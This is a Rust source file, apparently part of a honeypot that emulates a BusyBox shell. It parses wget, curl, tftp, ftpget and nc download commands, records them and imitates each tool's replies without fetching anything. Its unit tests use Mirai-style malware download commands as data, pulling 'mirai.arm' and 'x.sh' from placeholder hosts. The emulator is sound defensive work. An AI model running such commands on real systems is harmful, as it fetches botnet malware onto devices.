//! Download commands: `wget`, `curl`, `tftp`, `ftpget`, `nc`.
//!
//! Each is parsed the way the real tool parses its arguments (BusyBox and the
//! common non-BusyBox spellings), recorded as an [`Effect::Download`], and
//! answered with the tool's own words. The shell never fetches anything: the
//! downloader acts on the effect.

use super::lossy;
use crate::exec::Io;
use crate::{Effect, FetchFailure, FetchResult, Shell, Tool};
use std::sync::Arc;

/// A parsed download command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Request {
    pub url: String,
    pub tool: Tool,
    /// A path, or `-` for stdout.
    pub dest: String,
    pub host: String,
    pub port: u16,
    pub quiet: bool,
}

fn s(a: &[u8]) -> String {
    lossy(a).into_owned()
}

/// `scheme://[user@]host[:port]/path` → (host, port, path).
fn split_url(url: &str, default_port: u16) -> (String, u16, String) {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let authority = authority.rsplit('@').next().unwrap_or(authority);
    let (host, port) = if let Some(v6) = authority.strip_prefix('[') {
        match v6.split_once(']') {
            Some((h, p)) => (
                h.to_string(),
                p.strip_prefix(':').and_then(|p| p.parse().ok()),
            ),
            None => (v6.to_string(), None),
        }
    } else {
        match authority.rsplit_once(':') {
            Some((h, p)) => (h.to_string(), p.parse().ok()),
            None => (authority.to_string(), None),
        }
    };
    (host, port.unwrap_or(default_port), path.to_string())
}

/// A wget/curl URL argument: `http://` when no scheme is given, the
/// scheme's port when none is. Returns (url, host, port, path).
fn web_url(arg: String) -> (String, String, u16, String) {
    let url = if arg.contains("://") {
        arg
    } else {
        format!("http://{arg}")
    };
    let default_port = match url.split("://").next() {
        Some("https") => 443,
        Some("ftp") => 21,
        _ => 80,
    };
    let (host, port, path) = split_url(&url, default_port);
    (url, host, port, path)
}

fn file_name(path: &str) -> String {
    let p = path.split(['?', '#']).next().unwrap_or(path);
    match p.rsplit('/').next() {
        Some(n) if !n.is_empty() => n.to_string(),
        _ => "index.html".into(),
    }
}

fn parse_wget(argv: &[Vec<u8>]) -> Option<Request> {
    let mut dest = None;
    let mut quiet = false;
    let mut prefix = None;
    let mut url = None;
    let mut i = 1;
    while i < argv.len() {
        let a = s(&argv[i]);
        let value = |i: &mut usize| {
            *i += 1;
            argv.get(*i).map(|v| s(v))
        };
        match a.as_str() {
            "-O" | "--output-document" => dest = value(&mut i),
            "-P" | "--directory-prefix" => prefix = value(&mut i),
            "-U" | "--user-agent" | "-T" | "-t" | "--header" | "-Y" | "-o" | "-e" => {
                value(&mut i);
            }
            "-q" | "--quiet" => quiet = true,
            _ if a.starts_with("-O") && a.len() > 2 => dest = Some(a[2..].to_string()),
            _ if a.starts_with("--output-document=") => {
                dest = Some(a["--output-document=".len()..].to_string())
            }
            _ if a.starts_with('-') => {
                quiet |= a.starts_with("-q") || (a.contains('q') && !a.starts_with("--"))
            }
            _ => {
                if url.is_none() {
                    url = Some(a)
                }
            }
        }
        i += 1;
    }
    let (url, host, port, path) = web_url(url?);
    let dest = dest.unwrap_or_else(|| file_name(&path));
    let dest = match prefix {
        Some(p) if dest != "-" => format!("{}/{}", p.trim_end_matches('/'), dest),
        _ => dest,
    };
    Some(Request {
        url,
        tool: Tool::Wget,
        dest,
        host,
        port,
        quiet,
    })
}

fn parse_curl(argv: &[Vec<u8>]) -> Option<Request> {
    let mut dest = "-".to_string();
    let mut remote_name = false;
    let mut quiet = false;
    let mut url = None;
    let mut i = 1;
    while i < argv.len() {
        let a = s(&argv[i]);
        match a.as_str() {
            "-o" | "--output" => {
                i += 1;
                dest = argv.get(i).map(|v| s(v)).unwrap_or(dest);
            }
            "-O" | "--remote-name" => remote_name = true,
            "-A" | "--user-agent" | "-H" | "--header" | "-m" | "--max-time" | "-d" | "--data"
            | "-X" | "-e" | "-u" | "--connect-timeout" | "--retry" => i += 1,
            _ if a.starts_with("--") => quiet |= a == "--silent",
            _ if a.starts_with('-') => {
                quiet |= a.contains('s');
                remote_name |= a.contains('O');
            }
            _ => {
                if url.is_none() {
                    url = Some(a)
                }
            }
        }
        i += 1;
    }
    let (url, host, port, path) = web_url(url?);
    if remote_name {
        dest = file_name(&path);
    }
    Some(Request {
        url,
        tool: Tool::Curl,
        dest,
        host,
        port,
        quiet,
    })
}

/// BusyBox `tftp [-g|-p] [-l LOCAL] [-r REMOTE] [-b SIZE] HOST [PORT]` and
/// tftp-hpa `tftp [-m MODE] HOST [PORT] -c get REMOTE [LOCAL]`.
fn parse_tftp(argv: &[Vec<u8>]) -> Option<Request> {
    let mut local = None;
    let mut remote = None;
    let mut get = false;
    let mut positional = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        let a = s(&argv[i]);
        match a.as_str() {
            "-g" => get = true,
            "-p" => get = false,
            "-l" => {
                i += 1;
                local = argv.get(i).map(|v| s(v));
            }
            "-r" => {
                i += 1;
                remote = argv.get(i).map(|v| s(v));
            }
            "-b" | "-m" => i += 1,
            "-c" => {
                // tftp-hpa: -c get REMOTE [LOCAL]
                let cmd = argv.get(i + 1).map(|v| s(v)).unwrap_or_default();
                if cmd == "get" {
                    get = true;
                    remote = argv.get(i + 2).map(|v| s(v));
                    local = argv.get(i + 3).map(|v| s(v)).or(local);
                }
                break;
            }
            _ if a.starts_with("-g") || a.starts_with("-r") || a.starts_with("-l") => {
                // Combined forms like -gr FILE.
                let takes: Vec<char> = a[1..].chars().collect();
                for c in takes {
                    match c {
                        'g' => get = true,
                        'r' => {
                            i += 1;
                            remote = argv.get(i).map(|v| s(v));
                        }
                        'l' => {
                            i += 1;
                            local = argv.get(i).map(|v| s(v));
                        }
                        _ => {}
                    }
                }
            }
            _ if a.starts_with('-') => {}
            _ => positional.push(a),
        }
        i += 1;
    }
    let _ = get;
    let host = positional.first()?.clone();
    let port = positional.get(1).and_then(|p| p.parse().ok()).unwrap_or(69);
    let remote = remote.or_else(|| local.clone())?;
    let dest = local.unwrap_or_else(|| file_name(&remote));
    let url = if port == 69 {
        format!("tftp://{host}/{}", remote.trim_start_matches('/'))
    } else {
        format!("tftp://{host}:{port}/{}", remote.trim_start_matches('/'))
    };
    Some(Request {
        url,
        tool: Tool::Tftp,
        dest,
        host,
        port,
        quiet: false,
    })
}

/// `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE`.
fn parse_ftpget(argv: &[Vec<u8>]) -> Option<Request> {
    let mut user = None;
    let mut pass = None;
    let mut port = 21;
    let mut positional = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        let a = s(&argv[i]);
        match a.as_str() {
            "-u" | "--username" => {
                i += 1;
                user = argv.get(i).map(|v| s(v));
            }
            "-p" | "--password" => {
                i += 1;
                pass = argv.get(i).map(|v| s(v));
            }
            "-P" | "--port" => {
                i += 1;
                port = argv.get(i).and_then(|v| s(v).parse().ok()).unwrap_or(21);
            }
            _ if a.starts_with('-') => {}
            _ => positional.push(a),
        }
        i += 1;
    }
    let host = positional.first()?.clone();
    let (local, remote) = match positional.len() {
        2 => (file_name(&positional[1]), positional[1].clone()),
        n if n >= 3 => (positional[1].clone(), positional[2].clone()),
        _ => return None,
    };
    let creds = match (user, pass) {
        (Some(u), Some(p)) => format!("{u}:{p}@"),
        (Some(u), None) => format!("{u}@"),
        _ => String::new(),
    };
    let port_part = if port == 21 {
        String::new()
    } else {
        format!(":{port}")
    };
    let url = format!(
        "ftp://{creds}{host}{port_part}/{}",
        remote.trim_start_matches('/')
    );
    Some(Request {
        url,
        tool: Tool::Ftpget,
        dest: local,
        host,
        port,
        quiet: false,
    })
}

/// `nc HOST PORT` (with the output redirected to a file: a download).
fn parse_nc(argv: &[Vec<u8>]) -> Option<Request> {
    let mut positional = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        let a = s(&argv[i]);
        match a.as_str() {
            "-e" | "-w" | "-p" | "-s" | "-i" | "-q" => i += 1,
            _ if a.starts_with('-') => {}
            _ => positional.push(a),
        }
        i += 1;
    }
    let host = positional.first()?.clone();
    let port: u16 = positional.get(1)?.parse().ok()?;
    Some(Request {
        url: format!("tcp://{host}:{port}"),
        tool: Tool::Nc,
        dest: "-".into(),
        host,
        port,
        quiet: true,
    })
}

fn parse(tool: &str, argv: &[Vec<u8>]) -> Option<Request> {
    match tool {
        "wget" => parse_wget(argv),
        "curl" => parse_curl(argv),
        "tftp" => parse_tftp(argv),
        "ftpget" => parse_ftpget(argv),
        "nc" | "netcat" => parse_nc(argv),
        _ => None,
    }
}

fn record(sh: &mut Shell, r: &Request) {
    sh.effect(Effect::Download {
        url: r.url.clone(),
        tool: r.tool,
        dest: r.dest.clone(),
    });
}

/// Record a download the device could not even attempt (tool not found).
pub(crate) fn record_intent(sh: &mut Shell, name: &str, argv: &[Vec<u8>]) {
    if let Some(r) = parse(crate::vfs::basename(name), argv) {
        record(sh, &r);
    }
}

/// How one download tool behaves around the shared fetch.
struct ToolSpec {
    parse: fn(&[Vec<u8>]) -> Option<Request>,
    /// Printed (to stderr) when the arguments make no sense: BusyBox's
    /// usage of the tool, or curl's hint.
    usage: fn(&Shell) -> Vec<u8>,
    /// Printed before anything else once the fetch is known (`wget`'s
    /// "Connecting to" line): `None` when the tool says nothing.
    connecting: fn(&Request, &FetchResult) -> Option<String>,
    /// Printed after a successful fetch was delivered.
    done: fn(&Request, usize) -> Option<String>,
    /// Exit status and message of a failed fetch (message may be empty).
    failed: fn(&Request, FetchFailure) -> (i32, String),
    /// Prefix of "can't write the file" errors.
    name: &'static str,
}

/// The common life of a download command: parse, record, wait for (or get)
/// the fetch result, deliver the bytes or print the tool's error.
fn run_tool(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io, t: &ToolSpec) -> i32 {
    let Some(r) = (t.parse)(argv) else {
        let text = (t.usage)(sh);
        sh.err(io, &text);
        return 1;
    };
    record(sh, &r);
    let Some(result) = sh.fetch(&r.url, r.tool, &r.dest) else {
        // The line stops here and is replayed once the caller has fetched.
        return 1;
    };
    if let Some(line) = (t.connecting)(&r, &result) {
        sh.err(io, line.as_bytes());
    }
    match result {
        FetchResult::Fetched { bytes, .. } => {
            if let Err(e) = deliver(sh, io, &r, &bytes) {
                sh.err(io, format!("{}: {e}\n", t.name).as_bytes());
                return 1;
            }
            if let Some(line) = (t.done)(&r, bytes.len()) {
                sh.err(io, line.as_bytes());
            }
            0
        }
        FetchResult::Failed(f) => {
            let (status, msg) = (t.failed)(&r, f);
            sh.err(io, msg.as_bytes());
            status
        }
    }
}

/// Put fetched bytes where the tool puts them: a file, or standard output.
fn deliver(sh: &mut Shell, io: &mut Io, r: &Request, bytes: &Arc<Vec<u8>>) -> Result<(), String> {
    if r.dest == "-" {
        sh.out(io, bytes);
        return Ok(());
    }
    let path = sh.abs(r.dest.as_bytes());
    sh.vfs
        .put_file(&path, bytes.clone(), 0o644, sh.now())
        .map(|_| ())
        .map_err(|e| format!("can't open '{}': {}", r.dest, e.text()))
}

/// BusyBox's progress line at 100%.
fn progress(name: &str, size: usize) -> String {
    let shown = if size < 100_000 {
        size.to_string()
    } else {
        format!("{}k", size / 1024)
    };
    let name: String = name.chars().take(20).collect();
    format!(
        "{name:<20} 100% |{}| {shown:>7}  0:00:00 ETA\n",
        "*".repeat(31)
    )
}

/// `host` or `host:port` as BusyBox wget names its target.
fn wget_target(r: &Request) -> String {
    if r.url.contains(&format!(":{}", r.port)) {
        format!("{}:{}", r.host, r.port)
    } else {
        r.host.clone()
    }
}

const WGET: ToolSpec = ToolSpec {
    parse: parse_wget,
    usage: |sh| sh.usage_text("wget"),
    connecting: |r, result| {
        if r.quiet || matches!(result, FetchResult::Failed(FetchFailure::BadAddress)) {
            return None;
        }
        let remote = match result {
            FetchResult::Fetched { remote, .. } => remote.clone(),
            FetchResult::Failed(_) => format!("{}:{}", r.host, r.port),
        };
        Some(format!("Connecting to {} ({remote})\n", wget_target(r)))
    },
    done: |r, size| {
        let name = if r.dest == "-" {
            "-"
        } else {
            crate::vfs::basename(&r.dest)
        };
        (!r.quiet).then(|| progress(name, size))
    },
    failed: |r, f| {
        let msg = match f {
            FetchFailure::BadAddress => format!("wget: bad address '{}'\n", r.host),
            FetchFailure::ConnectionRefused => format!(
                "wget: can't connect to remote host ({}): Connection refused\n",
                r.host
            ),
            FetchFailure::Timeout => format!(
                "wget: can't connect to remote host ({}): Connection timed out\n",
                r.host
            ),
            FetchFailure::HttpStatus(code, reason) => {
                format!("wget: server returned error: HTTP/1.1 {code} {reason}\n")
            }
            FetchFailure::Server(_) | FetchFailure::TooLarge => {
                "wget: error getting response: Connection reset by peer\n".to_string()
            }
            FetchFailure::TooManyRedirects(_) => "wget: too many redirections\n".to_string(),
        };
        (1, msg)
    },
    name: "wget",
};

const CURL: ToolSpec = ToolSpec {
    parse: parse_curl,
    usage: |_| b"curl: try 'curl --help' or 'curl --manual' for more information\n".to_vec(),
    connecting: |_, _| None,
    done: |r, n| {
        (!r.quiet && r.dest != "-").then(|| {
            format!(
                "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   Spent    Left  Speed\n100 {n:>5}  100 {n:>5}    0     0  {n:>5}      0 --:--:-- --:--:-- --:--:-- {n:>5}\n"
            )
        })
    },
    failed: |r, f| {
        let (code, msg) = match f {
            FetchFailure::BadAddress => (6, format!("Could not resolve host: {}", r.host)),
            FetchFailure::ConnectionRefused => (
                7,
                format!(
                    "Failed to connect to {} port {}: Connection refused",
                    r.host, r.port
                ),
            ),
            FetchFailure::Timeout => (
                28,
                format!(
                    "Failed to connect to {} port {}: Connection timed out",
                    r.host, r.port
                ),
            ),
            // Without -f, curl prints the error page and succeeds.
            FetchFailure::HttpStatus(..) => return (0, String::new()),
            FetchFailure::Server(_) | FetchFailure::TooLarge => {
                (56, "Recv failure: Connection reset by peer".to_string())
            }
            FetchFailure::TooManyRedirects(n) => (47, format!("Maximum ({n}) redirects followed")),
        };
        (
            code,
            if r.quiet {
                String::new()
            } else {
                format!("curl: ({code}) {msg}\n")
            },
        )
    },
    name: "curl: (23) Failed writing body",
};

const TFTP: ToolSpec = ToolSpec {
    parse: parse_tftp,
    usage: |sh| sh.usage_text("tftp"),
    connecting: |_, _| None,
    done: |_, _| None,
    failed: |r, f| {
        let msg = match f {
            FetchFailure::BadAddress => format!("tftp: bad address '{}'\n", r.host),
            FetchFailure::Server(m) => format!(
                "tftp: server error: (1) {}\n",
                m.trim_start_matches("protocol: ")
                    .trim_start_matches("server error: ")
            ),
            _ => "tftp: timeout\n".to_string(),
        };
        (1, msg)
    },
    name: "tftp",
};

const FTPGET: ToolSpec = ToolSpec {
    parse: parse_ftpget,
    usage: |sh| sh.usage_text("ftpget"),
    connecting: |_, _| None,
    done: |_, _| None,
    failed: |r, f| {
        let msg = match f {
            FetchFailure::BadAddress => format!("ftpget: bad address '{}'\n", r.host),
            FetchFailure::ConnectionRefused => format!(
                "ftpget: can't connect to remote host ({}): Connection refused\n",
                r.host
            ),
            FetchFailure::Server(m) => format!("ftpget: unexpected server response to RETR: {m}\n"),
            _ => format!(
                "ftpget: can't connect to remote host ({}): Connection timed out\n",
                r.host
            ),
        };
        (1, msg)
    },
    name: "ftpget",
};

pub(crate) fn wget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
    run_tool(sh, argv, io, &WGET)
}

pub(crate) fn curl(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
    run_tool(sh, argv, io, &CURL)
}

pub(crate) fn tftp(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
    run_tool(sh, argv, io, &TFTP)
}

pub(crate) fn ftpget(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
    run_tool(sh, argv, io, &FTPGET)
}

pub(crate) fn nc(sh: &mut Shell, argv: &[Vec<u8>], io: &mut Io) -> i32 {
    match parse_nc(argv) {
        Some(r) => {
            record(sh, &r);
            1
        }
        None => sh.usage(io, "nc"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(s: &str) -> Vec<Vec<u8>> {
        s.split_whitespace()
            .map(|w| w.as_bytes().to_vec())
            .collect()
    }

    #[test]
    fn tool_syntaxes() {
        let r = parse_wget(&argv("wget http://1.2.3.4:8080/bins/mirai.arm -O - ")).unwrap();
        assert_eq!(
            (r.url.as_str(), r.dest.as_str(), r.port),
            ("http://1.2.3.4:8080/bins/mirai.arm", "-", 8080)
        );
        let r = parse_wget(&argv("wget -q 1.2.3.4/x.sh")).unwrap();
        assert_eq!(
            (r.url.as_str(), r.dest.as_str(), r.quiet),
            ("http://1.2.3.4/x.sh", "x.sh", true)
        );
        let r = parse_tftp(&argv("tftp -g -l dvrHelper -r mirai.arm7 1.2.3.4")).unwrap();
        assert_eq!(
            (r.url.as_str(), r.dest.as_str()),
            ("tftp://1.2.3.4/mirai.arm7", "dvrHelper")
        );
        let r = parse_tftp(&argv("tftp 1.2.3.4 -c get t8UsA2.sh")).unwrap();
        assert_eq!(
            (r.url.as_str(), r.dest.as_str()),
            ("tftp://1.2.3.4/t8UsA2.sh", "t8UsA2.sh")
        );
        let r = parse_tftp(&argv("tftp -r x.sh -g 1.2.3.4 6969")).unwrap();
        assert_eq!(r.url, "tftp://1.2.3.4:6969/x.sh");
        let r = parse_ftpget(&argv(
            "ftpget -v -u anonymous -p anonymous -P 2121 1.2.3.4 ftp1.sh ftp1.sh",
        ))
        .unwrap();
        assert_eq!(
            (r.url.as_str(), r.dest.as_str()),
            ("ftp://anonymous:anonymous@1.2.3.4:2121/ftp1.sh", "ftp1.sh")
        );
        let r = parse_curl(&argv("curl -sO http://[2001:db8::1]:81/a/b.sh")).unwrap();
        assert_eq!(
            (r.host.as_str(), r.port, r.dest.as_str()),
            ("2001:db8::1", 81, "b.sh")
        );
        let r = parse_nc(&argv("nc 1.2.3.4 3912")).unwrap();
        assert_eq!(r.url, "tcp://1.2.3.4:3912");
        assert!(parse_wget(&argv("wget")).is_none());
    }
}
